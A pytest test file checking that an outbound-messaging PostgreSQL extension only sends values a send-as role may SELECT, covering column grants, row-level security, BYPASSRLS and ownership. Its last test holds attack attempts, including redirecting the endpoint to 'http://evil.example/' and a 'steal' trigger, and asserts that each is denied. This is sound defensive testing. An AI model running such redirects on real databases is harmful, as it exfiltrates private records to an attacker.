"""End to end: the send-as role bounds what leaves the database. PostgreSQL's own rules decide
(column grants, table grants, row-level security, BYPASSRLS, ownership), at the time of each
change, and no value the role cannot SELECT ever reaches a listener."""

import psycopg
import pytest

from support.cluster import wait_for

ROLES = ["sec_reader", "sec_bypass", "sec_owner", "sec_user"]


def drop_roles(db):
    for role in ROLES:
        if db.execute("SELECT 1 FROM pg_roles WHERE rolname = %s", (role,)).fetchone():
            db.execute(f"DROP OWNED BY {role} CASCADE")
            db.execute(f"DROP ROLE {role}")


@pytest.fixture
def secured(db):
    """Table `ledger` (owned by sec_owner) and roles: sec_reader reads id, region and name;
    sec_bypass has BYPASSRLS and reads everything; sec_user writes the table (BYPASSRLS, so
    that its own statements are not what row-level security filters)."""
    db.execute("DROP TABLE IF EXISTS ledger")
    drop_roles(db)
    db.execute("CREATE ROLE sec_reader")
    db.execute("CREATE ROLE sec_bypass BYPASSRLS")
    db.execute("CREATE ROLE sec_owner")
    db.execute("CREATE ROLE sec_user LOGIN BYPASSRLS")
    db.execute("CREATE TABLE ledger (id int PRIMARY KEY, region text, name text, salary int)")
    db.execute("ALTER TABLE ledger OWNER TO sec_owner")
    db.execute("GRANT SELECT (id, region, name) ON ledger TO sec_reader")
    db.execute("GRANT SELECT ON ledger TO sec_bypass")
    db.execute("GRANT INSERT, UPDATE, SELECT ON ledger TO sec_user")
    yield "ledger"
    db.execute("DROP TABLE IF EXISTS ledger")
    drop_roles(db)


def define(db, url, send_as, fields, unique_name="Ledger"):
    db.execute("SELECT outbound_msg.create_message('ledger', 'Ledger', %s, %s, %s, %s::regrole)",
               (unique_name, url, fields, send_as))


def delivered(listener, db, count):
    wait_for(lambda: len(listener.notifications()) >= count and db.execute(
        "SELECT count(*) FROM outbound_msg.notification n JOIN outbound_msg.message m "
        "ON m.id = n.message_id WHERE m.object = 'ledger'::regclass").fetchone()[0] == 0,
        what=f"{count} deliveries and an empty queue")
    return {n["fields"]["Id"]: n["fields"] for n in listener.notifications()}


def test_a_grant_revoked_after_definition_stops_that_column_leaving(db, secured, listener):
    db.execute("GRANT SELECT (salary) ON ledger TO sec_reader")
    define(db, listener.url, "sec_reader", ["name", "salary"])
    db.execute("INSERT INTO ledger VALUES (1, 'eu', 'Ada', 1000)")
    db.execute("REVOKE SELECT (salary) ON ledger FROM sec_reader")
    db.execute("INSERT INTO ledger VALUES (2, 'eu', 'Bob', 2000)")
    by_id = delivered(listener, db, 2)
    assert by_id["1"] == {"Id": "1", "name": "Ada", "salary": "1000"}
    assert by_id["2"] == {"Id": "2", "name": "Bob"}
    assert all(b"2000" not in r["body"] for r in listener.requests)


def test_without_select_on_the_key_nothing_is_sent(db, secured, listener):
    define(db, listener.url, "sec_reader", ["name"])
    db.execute("INSERT INTO ledger VALUES (1, 'eu', 'Ada', 1)")
    delivered(listener, db, 1)
    db.execute("REVOKE SELECT (id) ON ledger FROM sec_reader")
    db.execute("INSERT INTO ledger VALUES (2, 'eu', 'Bob', 2)")
    db.execute("GRANT SELECT (id) ON ledger TO sec_reader")
    db.execute("INSERT INTO ledger VALUES (3, 'eu', 'Cy', 3)")
    assert sorted(delivered(listener, db, 2)) == ["1", "3"]


def test_rows_hidden_by_row_level_security_never_leave(db, secured, listener):
    db.execute("ALTER TABLE ledger ENABLE ROW LEVEL SECURITY")
    db.execute("CREATE POLICY eu_only ON ledger FOR SELECT TO sec_reader USING (region = 'eu')")
    define(db, listener.url, "sec_reader", ["name", "region"])
    with psycopg.connect(host="127.0.0.1", port=db.info.port, user="sec_user",
                         dbname="postgres", autocommit=True) as user:
        user.execute("SET row_security = off")  # a session setting changes nothing
        user.execute("INSERT INTO ledger VALUES (1, 'eu', 'Ada', 1), (2, 'us', 'Bob', 2)")
        user.execute("UPDATE ledger SET region = 'eu' WHERE id = 2")
        user.execute("UPDATE ledger SET region = 'us' WHERE id = 1")
    by_id = delivered(listener, db, 2)
    assert sorted((n["fields"]["Id"], n["fields"]["region"]) for n in listener.notifications()) \
        == [("1", "eu"), ("2", "eu")]
    assert all(b"<sf:region>us</sf:region>" not in r["body"] for r in listener.requests)
    assert set(by_id) == {"1", "2"}


def test_bypassrls_and_owners_see_what_postgresql_lets_them_see(db, secured, listener):
    db.execute("ALTER TABLE ledger ENABLE ROW LEVEL SECURITY")
    db.execute("CREATE POLICY none_for_anyone ON ledger FOR SELECT USING (false)")
    define(db, listener.url, "sec_bypass", ["name"], "Bypass")
    define(db, listener.url, "sec_owner", ["name"], "Owner")
    define(db, listener.url, "sec_reader", ["name"], "Reader")
    db.execute("INSERT INTO ledger VALUES (1, 'eu', 'Ada', 1)")
    wait_for(lambda: len(listener.notifications()) == 2, what="bypass and owner deliveries")
    db.execute("ALTER TABLE ledger FORCE ROW LEVEL SECURITY")
    db.execute("INSERT INTO ledger VALUES (2, 'eu', 'Bob', 2)")
    wait_for(lambda: len(listener.notifications()) == 3, what="the bypass delivery of row 2")
    actions = {}
    for message in listener.received():
        for n in message["notifications"]:
            actions.setdefault(n["fields"]["Id"], set()).add(message["action_id"])
    assert len(actions["1"]) == 2, "row 1: BYPASSRLS role and owner (not forced)"
    assert len(actions["2"]) == 1, "row 2: only the BYPASSRLS role once RLS is forced"


def test_send_omits_columns_the_role_cannot_read(db, secured, listener):
    db.execute("GRANT SELECT (salary) ON ledger TO sec_reader")
    define(db, listener.url, "sec_reader", ["name", "salary"])
    db.execute("REVOKE SELECT (salary) ON ledger FROM sec_reader")
    db.execute("ALTER TABLE ledger DISABLE TRIGGER outbound_msg_capture")
    db.execute("INSERT INTO ledger VALUES (7, 'eu', 'Ada', 7000)")
    db.execute("SELECT outbound_msg.send('ledger', 'Ledger', '7')")
    assert delivered(listener, db, 1)["7"] == {"Id": "7", "name": "Ada"}


def test_no_one_else_can_forge_queue_rows_or_reuse_the_trigger(cluster, db, secured):
    define(db, "http://127.0.0.1:9/", "sec_reader", ["name"])
    with cluster.connect(user="sec_user") as user:
        user.execute("CREATE TEMP TABLE mine (id int PRIMARY KEY)")
        for sql in [
            "INSERT INTO outbound_msg.notification (message_id, record_id, payload) "
            "VALUES (1, '1', '<sf:Id>1</sf:Id>')",
            "UPDATE outbound_msg.message SET endpoint_url = 'http://evil.example/'",
            "SELECT * FROM outbound_msg.message_stats",
            "CREATE TRIGGER steal AFTER INSERT ON mine "
            "FOR EACH ROW EXECUTE FUNCTION outbound_msg.capture()",
            "SELECT outbound_msg.send('ledger', 'Ledger', '1')",
        ]:
            with pytest.raises(psycopg.errors.InsufficientPrivilege):
                user.execute(sql)
